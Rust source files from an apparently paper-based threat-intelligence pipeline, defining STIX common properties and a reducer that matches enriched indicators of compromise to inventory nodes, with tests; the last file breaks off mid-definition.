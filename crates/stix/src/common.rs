//! Properties shared by every STIX Domain Object.

use cais_common::Timestamp;
use serde::{Deserialize, Serialize};

use crate::id::StixId;

/// An external reference: a pointer from a STIX object to non-STIX
/// content such as a CVE record, a CAPEC entry or a vendor advisory.
///
/// # Examples
///
/// ```
/// use cais_stix::ExternalReference;
///
/// let cve = ExternalReference::cve("CVE-2017-9805");
/// assert_eq!(cve.source_name, "cve");
/// assert_eq!(cve.external_id.as_deref(), Some("CVE-2017-9805"));
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct ExternalReference {
    /// The name of the referenced source (for example `cve` or `capec`).
    pub source_name: String,
    /// Human-readable description of the reference.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    /// A URL to the referenced content.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    /// An identifier within the referenced source (for example a CVE id).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub external_id: Option<String>,
}

impl ExternalReference {
    /// Creates a reference with only a source name.
    pub fn new(source_name: impl Into<String>) -> Self {
        ExternalReference {
            source_name: source_name.into(),
            description: None,
            url: None,
            external_id: None,
        }
    }

    /// Creates a CVE reference in the conventional form.
    pub fn cve(cve_id: impl Into<String>) -> Self {
        let cve_id = cve_id.into();
        ExternalReference {
            url: Some(format!(
                "https://cve.mitre.org/cgi-bin/cvename.cgi?name={cve_id}"
            )),
            source_name: "cve".into(),
            description: None,
            external_id: Some(cve_id),
        }
    }

    /// Creates a CAPEC (Common Attack Pattern Enumeration) reference.
    pub fn capec(capec_id: impl Into<String>) -> Self {
        ExternalReference {
            source_name: "capec".into(),
            description: None,
            url: None,
            external_id: Some(capec_id.into()),
        }
    }

    /// Sets the URL, builder-style.
    pub fn with_url(mut self, url: impl Into<String>) -> Self {
        self.url = Some(url.into());
        self
    }

    /// Sets the description, builder-style.
    pub fn with_description(mut self, description: impl Into<String>) -> Self {
        self.description = Some(description.into());
        self
    }

    /// Returns `true` when this reference points at a well-known source
    /// (CVE, CAPEC, CWE, NVD or MITRE ATT&CK) — the distinction the
    /// paper's `external_references` feature scores
    /// (`multi_known_ref` / `single_known_ref` / `unknown_ref`).
    pub fn is_known_source(&self) -> bool {
        matches!(
            self.source_name.to_ascii_lowercase().as_str(),
            "cve" | "capec" | "cwe" | "nvd" | "mitre-attack" | "mitre"
        )
    }
}

/// A phase within a kill chain (for example `reconnaissance` within
/// `lockheed-martin-cyber-kill-chain`).
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct KillChainPhase {
    /// Name of the kill chain this phase belongs to.
    pub kill_chain_name: String,
    /// Name of the phase.
    pub phase_name: String,
}

impl KillChainPhase {
    /// Creates a kill-chain phase.
    pub fn new(kill_chain_name: impl Into<String>, phase_name: impl Into<String>) -> Self {
        KillChainPhase {
            kill_chain_name: kill_chain_name.into(),
            phase_name: phase_name.into(),
        }
    }

    /// A phase of the Lockheed Martin Cyber Kill Chain.
    pub fn lockheed_martin(phase_name: impl Into<String>) -> Self {
        KillChainPhase::new("lockheed-martin-cyber-kill-chain", phase_name)
    }
}

/// Properties common to every STIX Domain Object.
///
/// These are flattened into each SDO's JSON representation, giving the
/// standard layout (`id`, `created`, `modified`, `labels`, …).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CommonProperties {
    /// The object identifier.
    pub id: StixId,
    /// When the object was created.
    pub created: Timestamp,
    /// When the object was last modified.
    pub modified: Timestamp,
    /// Reference to the identity that created this object.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub created_by_ref: Option<StixId>,
    /// Open-vocabulary labels.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub labels: Vec<String>,
    /// References to non-STIX content.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub external_references: Vec<ExternalReference>,
    /// Whether the object is revoked.
    #[serde(default, skip_serializing_if = "is_false")]
    pub revoked: bool,
    /// Confidence in the object's correctness, 0–100 (a STIX 2.1 field
    /// accepted here because classifier confidence is forwarded to SIEMs,
    /// per Section II-A of the paper).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub confidence: Option<u8>,
    /// Custom property: the OSINT feed this object was derived from.
    ///
    /// Table II of the paper lists `osint_source` as a scored feature of
    /// every heuristic; it is carried as a STIX custom property.
    #[serde(
        rename = "x_cais_osint_source",
        skip_serializing_if = "Option::is_none"
    )]
    pub osint_source: Option<String>,
    /// Custom property: the kind of source (`osint`, `infrastructure`,
    /// `partner`, …), the paper's `source_type` feature.
    #[serde(rename = "x_cais_source_type", skip_serializing_if = "Option::is_none")]
    pub source_type: Option<String>,
}

fn is_false(value: &bool) -> bool {
    !*value
}

impl CommonProperties {
    /// Creates common properties with a fresh random id of the given
    /// object type, stamping `created` and `modified` with `now`.
    pub fn new(object_type: &str, now: Timestamp) -> Self {
        CommonProperties {
            id: StixId::generate(object_type),
            created: now,
            modified: now,
            created_by_ref: None,
            labels: Vec::new(),
            external_references: Vec::new(),
            revoked: false,
            confidence: None,
            osint_source: None,
            source_type: None,
        }
    }

    /// Counts external references to well-known sources, the quantity the
    /// paper's `external_references` heuristic feature scores.
    pub fn known_reference_count(&self) -> usize {
        self.external_references
            .iter()
            .filter(|r| r.is_known_source())
            .count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cve_reference_shape() {
        let r = ExternalReference::cve("CVE-2017-9805");
        assert!(r.is_known_source());
        assert!(r.url.as_deref().unwrap().contains("CVE-2017-9805"));
    }

    #[test]
    fn known_source_detection() {
        assert!(ExternalReference::capec("CAPEC-242").is_known_source());
        assert!(ExternalReference::new("CVE").is_known_source()); // case-insensitive
        assert!(!ExternalReference::new("random-blog").is_known_source());
    }

    #[test]
    fn known_reference_count() {
        let mut props = CommonProperties::new("vulnerability", Timestamp::EPOCH);
        props.external_references = vec![
            ExternalReference::cve("CVE-2017-9805"),
            ExternalReference::capec("CAPEC-242"),
            ExternalReference::new("blog").with_url("https://blog.example"),
        ];
        assert_eq!(props.known_reference_count(), 2);
    }

    #[test]
    fn serde_omits_empty_fields() {
        let props = CommonProperties::new("tool", Timestamp::EPOCH);
        let json = serde_json::to_value(&props).unwrap();
        let obj = json.as_object().unwrap();
        assert!(!obj.contains_key("labels"));
        assert!(!obj.contains_key("revoked"));
        assert!(!obj.contains_key("created_by_ref"));
        assert!(obj.contains_key("id"));
    }

    #[test]
    fn kill_chain_phase_constructors() {
        let p = KillChainPhase::lockheed_martin("exploitation");
        assert_eq!(p.kill_chain_name, "lockheed-martin-cyber-kill-chain");
        assert_eq!(p.phase_name, "exploitation");
    }
}
