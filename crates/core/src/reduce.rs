//! Reduction: eIoC × inventory → rIoC.
//!
//! Section IV: "Every eIoC is checked against this information
//! [the inventory] and, if there is a match, the rIoC is generated,
//! associated to a specific node, and, finally, sent to the Output
//! Module. If there is no match, the rIoC is not generated, while, if
//! the match is with a common keyword (e.g., Linux), the new rIoC is
//! associated with all nodes."
//!
//! This is the pipeline's hot path: every eIoC — thousands per round —
//! is matched against the whole inventory. Matching goes through the
//! inventory's tokenized [`MatchIndex`](cais_infra::MatchIndex), and
//! the reducer adds two memos on top, because real feeds repeat the
//! same products relentlessly: a CVE-record cache (when a database is
//! attached) and a bounded candidate-list → [`ApplicationMatch`] memo.
//! Both are invalidated by the inventory's generation counter, so a
//! mutated inventory is never served stale matches.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use cais_cvss::{CveDatabase, CveId, CveRecord};
use cais_infra::{ApplicationMatch, Inventory};
use parking_lot::Mutex;

use crate::heuristics::HeuristicKind;
use crate::ioc::{EnrichedIoc, ReducedIoc};

/// Bound on the candidate-list → match memo. When full, the memo is
/// cleared wholesale (epoch eviction) rather than tracking per-entry
/// recency: candidate lists are tiny strings, the map never exceeds a
/// few hundred kilobytes, and feeds cycle through far fewer distinct
/// product combinations than this.
const MATCH_MEMO_CAP: usize = 8192;

/// Separator for memo keys; never appears in normalized names.
const MEMO_KEY_SEP: char = '\u{1F}';

/// Candidate-list → match memo, valid for one inventory generation.
#[derive(Debug, Default)]
struct MatchMemo {
    generation: u64,
    map: HashMap<String, ApplicationMatch>,
}

/// Shared memo state. Lives behind an [`Arc`] so cloned reducers (the
/// parallel ingest path clones per worker scope) share one cache.
#[derive(Debug, Default)]
struct ReduceCache {
    cve: Mutex<HashMap<CveId, Option<Arc<CveRecord>>>>,
    matches: Mutex<MatchMemo>,
    cve_memo_hits: AtomicU64,
    cve_memo_misses: AtomicU64,
    match_memo_hits: AtomicU64,
    match_memo_misses: AtomicU64,
    match_memo_evictions: AtomicU64,
}

/// A point-in-time snapshot of the reducer's cache effectiveness,
/// surfaced as telemetry gauges (not counters: memo hit/miss splits
/// depend on thread interleaving in the parallel path, so they are
/// deliberately outside the serial==parallel determinism contract).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ReduceCacheStats {
    /// CVE-record lookups answered from the memo.
    pub cve_memo_hits: u64,
    /// CVE-record lookups that went to the database.
    pub cve_memo_misses: u64,
    /// Candidate lists whose match came from the memo.
    pub match_memo_hits: u64,
    /// Candidate lists that were matched against the index.
    pub match_memo_misses: u64,
    /// Times the match memo hit [`MATCH_MEMO_CAP`] and was cleared.
    pub match_memo_evictions: u64,
    /// Times the inventory's match index has been (re)built.
    pub index_rebuilds: u64,
}

/// The Output Module's reduction step.
#[derive(Clone)]
pub struct Reducer {
    inventory: Arc<Inventory>,
    /// Optional CVE database for resolving a vulnerability eIoC's
    /// affected products. Deployments attach one with
    /// [`Reducer::with_cve_database`]; by default enrichment is
    /// trusted to have merged database knowledge into descriptions.
    cve_db: Option<Arc<CveDatabase>>,
    /// `false` only in the retained linear baseline used by the
    /// equivalence tests and the `reduce_scale` benchmark.
    use_index: bool,
    cache: Arc<ReduceCache>,
}

impl Reducer {
    /// Creates a reducer over the inventory.
    pub fn new(inventory: Arc<Inventory>) -> Self {
        Reducer {
            inventory,
            cve_db: None,
            use_index: true,
            cache: Arc::new(ReduceCache::default()),
        }
    }

    /// Attaches a CVE database: vulnerability eIoCs then resolve their
    /// affected products/OSes from the record (memoized) in addition
    /// to description matching.
    pub fn with_cve_database(mut self, cve_db: Arc<CveDatabase>) -> Self {
        self.cve_db = Some(cve_db);
        self
    }

    /// The pre-index reference reducer: identical candidate semantics,
    /// but matching runs through the linear nodes × applications scan
    /// with no memoization. Exists for the equivalence tests and the
    /// `reduce_scale` benchmark baseline.
    pub fn linear_baseline(inventory: Arc<Inventory>) -> Self {
        Reducer {
            inventory,
            cve_db: None,
            use_index: false,
            cache: Arc::new(ReduceCache::default()),
        }
    }

    /// Drops the memoized CVE records and candidate-list matches.
    /// Called when scores are rewritten out-of-band (a decay rescore):
    /// the memos key on inputs that did not change, but downstream
    /// consumers must not be handed results assembled before the
    /// rescore, so the cheap, safe move is to start cold. Counts as
    /// one match-memo eviction in [`ReduceCacheStats`].
    pub fn invalidate_memos(&self) {
        self.cache.cve.lock().clear();
        let mut memo = self.cache.matches.lock();
        memo.map.clear();
        memo.generation = 0;
        drop(memo);
        self.cache
            .match_memo_evictions
            .fetch_add(1, Ordering::Relaxed);
    }

    /// Snapshot of cache-effectiveness counters for telemetry.
    pub fn stats(&self) -> ReduceCacheStats {
        ReduceCacheStats {
            cve_memo_hits: self.cache.cve_memo_hits.load(Ordering::Relaxed),
            cve_memo_misses: self.cache.cve_memo_misses.load(Ordering::Relaxed),
            match_memo_hits: self.cache.match_memo_hits.load(Ordering::Relaxed),
            match_memo_misses: self.cache.match_memo_misses.load(Ordering::Relaxed),
            match_memo_evictions: self.cache.match_memo_evictions.load(Ordering::Relaxed),
            index_rebuilds: self.inventory.index_rebuilds(),
        }
    }

    /// Applies the paper's three-way rule. Returns `None` when nothing
    /// in the infrastructure is affected — the eIoC stays stored for
    /// future correlation, but nothing reaches the dashboard.
    pub fn reduce(&self, eioc: &EnrichedIoc) -> Option<ReducedIoc> {
        let record = self.cve_record(eioc);
        let candidates = self.candidate_names(eioc, record.as_deref());
        if candidates.is_empty() {
            return None;
        }
        let matched = self.match_candidates(&candidates);
        if !matched.is_match() {
            return None;
        }
        let affected_application = candidates
            .iter()
            .find(|c| {
                let m = if self.use_index {
                    self.inventory.match_application(c)
                } else {
                    self.inventory.match_application_linear(c)
                };
                m.is_match() && !m.is_common_keyword()
            })
            .map(|c| (*c).to_owned());
        let description = eioc
            .composed
            .records
            .iter()
            .find_map(|r| r.description.clone())
            .unwrap_or_else(|| eioc.composed.summary());
        Some(ReducedIoc {
            id: eioc.id,
            cve: eioc.composed.cve().map(str::to_owned),
            description,
            affected_application,
            threat_score: eioc.score(),
            criteria: eioc.threat_score.breakdown().criteria_totals,
            nodes: matched.node_ids().to_vec(),
            via_common_keyword: matched.is_common_keyword(),
            misp_event_id: eioc.misp_event_id,
        })
    }

    /// The names the eIoC can be matched on: affected applications and
    /// operating systems for vulnerability IoCs (from the attached CVE
    /// database, when present), plus any product words appearing in
    /// member descriptions. Deduplicated case-insensitively preserving
    /// first-seen order, and borrowed — nothing is cloned on the hot
    /// path.
    fn candidate_names<'a>(
        &'a self,
        eioc: &'a EnrichedIoc,
        record: Option<&'a CveRecord>,
    ) -> Vec<&'a str> {
        let mut names: Vec<&'a str> = Vec::new();
        if let Some(record) = record {
            for product in &record.affected_products {
                push_unique(&mut names, product);
            }
            for os in &record.affected_os {
                push_unique(&mut names, os);
            }
        }
        // Inventory application names mentioned in descriptions also
        // count (e.g. "exploitation of gitlab instances"). The
        // application list comes pre-sorted and deduplicated from the
        // match index.
        for feed_record in &eioc.composed.records {
            if let Some(description) = &feed_record.description {
                let lower = description.to_ascii_lowercase();
                for app in self.inventory.all_applications() {
                    if lower.contains(app) {
                        push_unique(&mut names, app);
                    }
                }
                for keyword in self.inventory.common_keywords() {
                    if lower.contains(keyword.as_str()) {
                        push_unique(&mut names, keyword);
                    }
                }
            }
        }
        names
    }

    /// Resolves the eIoC's CVE record through the memo. `None` when no
    /// database is attached, the eIoC is not a vulnerability, or the
    /// record is unknown — negative results are memoized too.
    fn cve_record(&self, eioc: &EnrichedIoc) -> Option<Arc<CveRecord>> {
        let db = self.cve_db.as_ref()?;
        if eioc.heuristic != HeuristicKind::Vulnerability {
            return None;
        }
        let id: CveId = eioc.composed.cve()?.parse().ok()?;
        {
            let memo = self.cache.cve.lock();
            if let Some(cached) = memo.get(&id) {
                self.cache.cve_memo_hits.fetch_add(1, Ordering::Relaxed);
                return cached.clone();
            }
        }
        self.cache.cve_memo_misses.fetch_add(1, Ordering::Relaxed);
        let record = db.get(&id).map(|r| Arc::new(r.clone()));
        self.cache.cve.lock().insert(id, record.clone());
        record
    }

    /// Matches a candidate list, answering from the memo when the same
    /// list was seen before under the current inventory generation.
    fn match_candidates(&self, candidates: &[&str]) -> ApplicationMatch {
        if !self.use_index {
            // The baseline replicates the pre-index cost model: no
            // memo, linear scan per candidate.
            return self.inventory.match_any_linear(candidates);
        }
        let key = memo_key(candidates);
        let generation = self.inventory.generation();
        {
            let mut memo = self.cache.matches.lock();
            if memo.generation != generation {
                memo.map.clear();
                memo.generation = generation;
            }
            if let Some(matched) = memo.map.get(&key) {
                self.cache.match_memo_hits.fetch_add(1, Ordering::Relaxed);
                return matched.clone();
            }
        }
        self.cache.match_memo_misses.fetch_add(1, Ordering::Relaxed);
        // Matching runs outside the lock so parallel workers memoize
        // concurrently instead of serializing on index lookups.
        let matched = self.inventory.match_any(candidates);
        let mut memo = self.cache.matches.lock();
        if memo.generation == generation {
            if memo.map.len() >= MATCH_MEMO_CAP {
                memo.map.clear();
                self.cache
                    .match_memo_evictions
                    .fetch_add(1, Ordering::Relaxed);
            }
            memo.map.insert(key, matched.clone());
        }
        matched
    }
}

impl std::fmt::Debug for Reducer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Reducer")
            .field("nodes", &self.inventory.len())
            .field("has_cve_db", &self.cve_db.is_some())
            .field("use_index", &self.use_index)
            .field("stats", &self.stats())
            .finish()
    }
}

/// Appends a candidate if no case-insensitive equal name is present,
/// preserving first-seen order. Whitespace-only names are dropped —
/// they can never match anything the empty-candidate rule would not.
fn push_unique<'a>(names: &mut Vec<&'a str>, candidate: &'a str) {
    let candidate = candidate.trim();
    if candidate.is_empty() {
        return;
    }
    if !names.iter().any(|n| n.eq_ignore_ascii_case(candidate)) {
        names.push(candidate);
    }
}

fn memo_key(candidates: &[&str]) -> String {
    let mut key = String::with_capacity(candidates.iter().map(|c| c.len() + 1).sum());
    for (i, c) in candidates.iter().enumerate() {
        if i > 0 {
            key.push(MEMO_KEY_SEP);
        }
        key.push_str(c);
    }
    key
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::EvaluationContext;
    use crate::enrich::Enricher;
    use crate::ioc::ComposedIoc;
    use cais_common::{Observable, ObservableKind};
    use cais_feeds::{FeedRecord, ThreatCategory};
    use cais_infra::NodeId;

    fn eioc_with_description(description: &str) -> EnrichedIoc {
        let ctx = EvaluationContext::paper_use_case();
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            ctx.now.add_days(-100),
        )
        .with_cve("CVE-2017-9805")
        .with_description(description);
        let cioc = ComposedIoc::new(
            ThreatCategory::VulnerabilityExploitation,
            vec![record],
            ctx.now,
        );
        Enricher::new(ctx).enrich(cioc)
    }

    fn reducer() -> Reducer {
        Reducer::new(Arc::new(Inventory::paper_table3()))
    }

    #[test]
    fn apache_match_associates_node4() {
        let eioc = eioc_with_description("remote code execution in apache struts");
        let rioc = reducer().reduce(&eioc).expect("match");
        assert_eq!(rioc.nodes, vec![NodeId(4)]);
        assert!(!rioc.via_common_keyword);
        assert_eq!(rioc.cve.as_deref(), Some("CVE-2017-9805"));
        assert_eq!(rioc.affected_application.as_deref(), Some("apache"));
        assert!((rioc.threat_score - eioc.score()).abs() < 1e-12);
    }

    #[test]
    fn no_match_generates_nothing() {
        let eioc = eioc_with_description("vulnerability in some appliance nobody runs");
        assert!(reducer().reduce(&eioc).is_none());
    }

    #[test]
    fn common_keyword_matches_all_nodes() {
        let eioc = eioc_with_description("privilege escalation affecting all linux kernels");
        let rioc = reducer().reduce(&eioc).expect("common keyword match");
        assert!(rioc.via_common_keyword);
        assert_eq!(rioc.nodes.len(), 4);
        // No single concrete application: the keyword did the matching.
        assert_eq!(rioc.affected_application, None);
    }

    #[test]
    fn gitlab_match_from_description() {
        let eioc = eioc_with_description("mass exploitation of gitlab instances observed");
        let rioc = reducer().reduce(&eioc).expect("match");
        assert_eq!(rioc.nodes, vec![NodeId(2)]);
        assert_eq!(rioc.affected_application.as_deref(), Some("gitlab"));
    }

    #[test]
    fn rioc_is_smaller_than_its_eioc() {
        // The whole point of reduction: the dashboard payload is a
        // fraction of the stored enriched IoC.
        let eioc = eioc_with_description("remote code execution in apache struts");
        let rioc = reducer().reduce(&eioc).expect("match");
        let eioc_size = serde_json::to_string(&eioc).unwrap().len();
        let rioc_size = serde_json::to_string(&rioc).unwrap().len();
        assert!(
            rioc_size * 2 < eioc_size,
            "rIoC ({rioc_size} B) should be well under half the eIoC ({eioc_size} B)"
        );
    }

    #[test]
    fn linear_baseline_agrees_with_indexed() {
        let inventory = Arc::new(Inventory::paper_table3());
        let indexed = Reducer::new(inventory.clone());
        let baseline = Reducer::linear_baseline(inventory);
        for desc in [
            "remote code execution in apache struts",
            "mass exploitation of gitlab instances observed",
            "privilege escalation affecting all linux kernels",
            "vulnerability in some appliance nobody runs",
        ] {
            let eioc = eioc_with_description(desc);
            assert_eq!(indexed.reduce(&eioc), baseline.reduce(&eioc), "{desc}");
        }
    }

    #[test]
    fn repeated_candidates_hit_the_match_memo() {
        let r = reducer();
        let eioc = eioc_with_description("remote code execution in apache struts");
        assert!(r.reduce(&eioc).is_some());
        assert!(r.reduce(&eioc).is_some());
        assert!(r.reduce(&eioc).is_some());
        let stats = r.stats();
        assert_eq!(stats.match_memo_misses, 1);
        assert_eq!(stats.match_memo_hits, 2);
        assert_eq!(stats.index_rebuilds, 1);
        assert_eq!(stats.match_memo_evictions, 0);
        // No database attached: the CVE memo never engages.
        assert_eq!(stats.cve_memo_hits + stats.cve_memo_misses, 0);
    }

    #[test]
    fn cve_database_supplies_candidates_and_is_memoized() {
        // A record naming a product that never appears in the
        // description text: only the database path can match it.
        let mut db = CveDatabase::new();
        db.insert(CveRecord {
            id: "CVE-2020-0001".parse().unwrap(),
            description: "file-sharing platform flaw".to_owned(),
            cvss: None,
            published: cais_common::Timestamp::from_ymd_hms(2020, 1, 1, 0, 0, 0),
            affected_products: vec!["owncloud".to_owned()],
            affected_os: vec![],
        });
        let inventory = Arc::new(Inventory::paper_table3());
        let r = Reducer::new(inventory).with_cve_database(Arc::new(db));

        let ctx = EvaluationContext::paper_use_case();
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2020-0001"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            ctx.now.add_days(-10),
        )
        .with_cve("CVE-2020-0001")
        .with_description("exploit kit targets unnamed file-sharing platforms");
        let cioc = ComposedIoc::new(
            ThreatCategory::VulnerabilityExploitation,
            vec![record],
            ctx.now,
        );
        let eioc = Enricher::new(ctx).enrich(cioc);

        let rioc = r.reduce(&eioc).expect("database product matches owncloud");
        assert_eq!(rioc.nodes, vec![NodeId(1)]);
        assert_eq!(rioc.affected_application.as_deref(), Some("owncloud"));

        let _ = r.reduce(&eioc);
        let stats = r.stats();
        assert_eq!(stats.cve_memo_misses, 1);
        assert_eq!(stats.cve_memo_hits, 1);
    }

    #[test]
    fn candidate_names_dedup_record_and_description() {
        // "apache struts" arrives via both the CVE record (mixed case)
        // and the description scan; the candidate list keeps one copy,
        // first-seen (record) order.
        let mut db = CveDatabase::new();
        db.insert(CveRecord {
            id: "CVE-2017-9805".parse().unwrap(),
            description: "struts rce".to_owned(),
            cvss: None,
            published: cais_common::Timestamp::from_ymd_hms(2017, 9, 13, 0, 0, 0),
            affected_products: vec!["Apache Struts".to_owned(), "apache".to_owned()],
            affected_os: vec![],
        });
        let inventory = Arc::new(Inventory::paper_table3());
        let r = Reducer::new(inventory).with_cve_database(Arc::new(db));
        let eioc = eioc_with_description("remote code execution in apache struts");
        let record = r.cve_record(&eioc);
        let names = r.candidate_names(&eioc, record.as_deref());
        let lowered: Vec<String> = names.iter().map(|n| n.to_ascii_lowercase()).collect();
        let mut deduped = lowered.clone();
        deduped.dedup();
        let mut sorted = lowered.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(lowered.len(), sorted.len(), "duplicates in {lowered:?}");
        // First-seen order: record products lead.
        assert_eq!(names[0], "Apache Struts");
        assert!(lowered.contains(&"apache".to_owned()));
    }

    #[test]
    fn memo_invalidates_on_inventory_mutation() {
        let mut inventory = Inventory::paper_table3();
        let eioc = eioc_with_description("mass exploitation of gitlab instances observed");

        let r = Reducer::new(Arc::new(inventory.clone()));
        let before = r.reduce(&eioc).expect("gitlab matches node 2");
        assert_eq!(before.nodes, vec![NodeId(2)]);

        // Same inventory, mutated: a second node now runs gitlab.
        assert!(inventory.install_application(NodeId(3), "gitlab"));
        let r = Reducer::new(Arc::new(inventory));
        let after = r.reduce(&eioc).expect("gitlab matches nodes 2 and 3");
        assert_eq!(after.nodes, vec![NodeId(2), NodeId(3)]);
    }
}
