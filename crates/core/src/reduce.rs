//! Reduction: eIoC × inventory → rIoC.
//!
//! Section IV: "Every eIoC is checked against this information
//! [the inventory] and, if there is a match, the rIoC is generated,
//! associated to a specific node, and, finally, sent to the Output
//! Module. If there is no match, the rIoC is not generated, while, if
//! the match is with a common keyword (e.g., Linux), the new rIoC is
//! associated with all nodes."

use std::sync::Arc;

use cais_infra::Inventory;

use crate::heuristics::HeuristicKind;
use crate::ioc::{EnrichedIoc, ReducedIoc};

/// The Output Module's reduction step.
#[derive(Debug, Clone)]
pub struct Reducer {
    inventory: Arc<Inventory>,
}

impl Reducer {
    /// Creates a reducer over the inventory.
    pub fn new(inventory: Arc<Inventory>) -> Self {
        Reducer { inventory }
    }

    /// Applies the paper's three-way rule. Returns `None` when nothing
    /// in the infrastructure is affected — the eIoC stays stored for
    /// future correlation, but nothing reaches the dashboard.
    pub fn reduce(&self, eioc: &EnrichedIoc) -> Option<ReducedIoc> {
        let candidates = self.candidate_names(eioc);
        if candidates.is_empty() {
            return None;
        }
        let matched = self.inventory.match_any(&candidates);
        if !matched.is_match() {
            return None;
        }
        let affected_application = candidates
            .iter()
            .find(|c| {
                let m = self.inventory.match_application(c);
                m.is_match() && !m.is_common_keyword()
            })
            .cloned();
        let description = eioc
            .composed
            .records
            .iter()
            .find_map(|r| r.description.clone())
            .unwrap_or_else(|| eioc.composed.summary());
        Some(ReducedIoc {
            id: eioc.id,
            cve: eioc.composed.cve().map(str::to_owned),
            description,
            affected_application,
            threat_score: eioc.score(),
            criteria: eioc.threat_score.breakdown().criteria_totals,
            nodes: matched.node_ids().to_vec(),
            via_common_keyword: matched.is_common_keyword(),
            misp_event_id: eioc.misp_event_id,
        })
    }

    /// The names the eIoC can be matched on: affected applications and
    /// operating systems for vulnerability IoCs (from the CVE database
    /// merge done at enrichment), plus any product words appearing in
    /// member descriptions.
    fn candidate_names(&self, eioc: &EnrichedIoc) -> Vec<String> {
        let mut names: Vec<String> = Vec::new();
        if eioc.heuristic == HeuristicKind::Vulnerability {
            if let Some(cve) = eioc.composed.cve() {
                if let Ok(id) = cve.parse::<cais_cvss::CveId>() {
                    // The reducer re-reads the CVE record: the rIoC must
                    // name the concrete affected application.
                    if let Some(record) = self.cve_record(&id) {
                        names.extend(record.affected_products.iter().cloned());
                        names.extend(record.affected_os.iter().cloned());
                    }
                }
            }
        }
        // Inventory application names mentioned in descriptions also
        // count (e.g. "exploitation of gitlab instances").
        for record in &eioc.composed.records {
            if let Some(description) = &record.description {
                let lower = description.to_ascii_lowercase();
                for app in self.inventory.all_applications() {
                    if lower.contains(app) && !names.iter().any(|n| n == app) {
                        names.push(app.to_owned());
                    }
                }
                for keyword in self.inventory.common_keywords() {
                    if lower.contains(keyword.as_str()) && !names.contains(keyword) {
                        names.push(keyword.clone());
                    }
                }
            }
        }
        names
    }

    fn cve_record(&self, _id: &cais_cvss::CveId) -> Option<cais_cvss::CveRecord> {
        // The reducer has no CVE database of its own; enrichment merges
        // database knowledge into the cluster records' descriptions. The
        // hook stays for deployments that attach one.
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::EvaluationContext;
    use crate::enrich::Enricher;
    use crate::ioc::ComposedIoc;
    use cais_common::{Observable, ObservableKind};
    use cais_feeds::{FeedRecord, ThreatCategory};
    use cais_infra::NodeId;

    fn eioc_with_description(description: &str) -> EnrichedIoc {
        let ctx = EvaluationContext::paper_use_case();
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            ctx.now.add_days(-100),
        )
        .with_cve("CVE-2017-9805")
        .with_description(description);
        let cioc = ComposedIoc::new(
            ThreatCategory::VulnerabilityExploitation,
            vec![record],
            ctx.now,
        );
        Enricher::new(ctx).enrich(cioc)
    }

    fn reducer() -> Reducer {
        Reducer::new(Arc::new(Inventory::paper_table3()))
    }

    #[test]
    fn apache_match_associates_node4() {
        let eioc = eioc_with_description("remote code execution in apache struts");
        let rioc = reducer().reduce(&eioc).expect("match");
        assert_eq!(rioc.nodes, vec![NodeId(4)]);
        assert!(!rioc.via_common_keyword);
        assert_eq!(rioc.cve.as_deref(), Some("CVE-2017-9805"));
        assert_eq!(rioc.affected_application.as_deref(), Some("apache"));
        assert!((rioc.threat_score - eioc.score()).abs() < 1e-12);
    }

    #[test]
    fn no_match_generates_nothing() {
        let eioc = eioc_with_description("vulnerability in some appliance nobody runs");
        assert!(reducer().reduce(&eioc).is_none());
    }

    #[test]
    fn common_keyword_matches_all_nodes() {
        let eioc = eioc_with_description("privilege escalation affecting all linux kernels");
        let rioc = reducer().reduce(&eioc).expect("common keyword match");
        assert!(rioc.via_common_keyword);
        assert_eq!(rioc.nodes.len(), 4);
        // No single concrete application: the keyword did the matching.
        assert_eq!(rioc.affected_application, None);
    }

    #[test]
    fn gitlab_match_from_description() {
        let eioc = eioc_with_description("mass exploitation of gitlab instances observed");
        let rioc = reducer().reduce(&eioc).expect("match");
        assert_eq!(rioc.nodes, vec![NodeId(2)]);
        assert_eq!(rioc.affected_application.as_deref(), Some("gitlab"));
    }

    #[test]
    fn rioc_is_smaller_than_its_eioc() {
        // The whole point of reduction: the dashboard payload is a
        // fraction of the stored enriched IoC.
        let eioc = eioc_with_description("remote code execution in apache struts");
        let rioc = reducer().reduce(&eioc).expect("match");
        let eioc_size = serde_json::to_string(&eioc).unwrap().len();
        let rioc_size = serde_json::to_string(&rioc).unwrap().len();
        assert!(
            rioc_size * 2 < eioc_size,
            "rIoC ({rioc_size} B) should be well under half the eIoC ({eioc_size} B)"
        );
    }
}
