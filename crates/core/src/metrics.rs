//! Per-stage ingestion metrics.
//!
//! Every ingestion round — serial or sharded-parallel — reports how
//! many records entered and left each pipeline stage and how long the
//! stage took. The record counters are deterministic (the parallel
//! path merges to the exact serial outcome); the wall times are not,
//! which is why [`StageMetrics::same_counts`] compares everything
//! *except* time.

use serde::{Deserialize, Serialize};

/// Counters and wall time of one pipeline stage.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct StageRecord {
    /// Items offered to the stage.
    pub records_in: usize,
    /// Items the stage passed on.
